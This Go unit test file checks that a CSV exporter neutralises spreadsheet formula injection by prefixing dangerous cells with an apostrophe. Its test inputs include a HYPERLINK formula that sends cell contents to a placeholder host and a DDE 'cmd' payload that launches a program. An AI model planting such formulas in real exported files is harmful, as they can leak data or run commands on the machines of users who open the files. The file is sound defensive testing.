package results

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/loupeapp/loupe/data/query"
)

func TestSafeCell(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://x/?"&A1)`, `'=HYPERLINK("http://x/?"&A1)`},
		{`@SUM(1+1)`, `'@SUM(1+1)`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3`, `'-2+3`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"-1e-3", "-1e-3"},
		{"-.5", "-.5"},
		{"-0x10", "'-0x10"},
		{"-Inf", "'-Inf"},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{"", ""},
		{"12", "12"},
	}
	for _, c := range cases {
		if got := SafeCell(c.in); got != c.want {
			t.Errorf("SafeCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestWriteCSV: cells from the data and the header are neutralised once
// written and read back by a CSV reader; numbers stay numbers.
func TestWriteCSV(t *testing.T) {
	cols := []query.Column{{Name: "=cmd"}, {Name: "amount"}, {Name: "note"}}
	rows := [][]any{
		{`=HYPERLINK("http://x/?"&A1)`, -12.5, "-12.5"},
		{`@SUM(1+1)`, int64(-3), `+cmd|' /C calc'!A0`},
		{"-2+3", nil, "\tleading tab"},
		{"\rleading cr", 4.0, map[string]any{"k": 1}},
		{[]any{"=x"}, true, "fine"},
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, cols, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"'=cmd", "amount", "note"},
		{`'=HYPERLINK("http://x/?"&A1)`, "-12.5", "-12.5"},
		{`'@SUM(1+1)`, "-3", `'+cmd|' /C calc'!A0`},
		{"'-2+3", "", "'\tleading tab"},
		{"'\rleading cr", "4", `{"k":1}`},
		{`["=x"]`, "true", "fine"},
	}
	if len(recs) != len(want) {
		t.Fatalf("%d records, want %d: %q", len(recs), len(want), recs)
	}
	for i := range want {
		for j := range want[i] {
			if got := recs[i][j]; got != want[i][j] {
				t.Errorf("record %d cell %d = %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
}
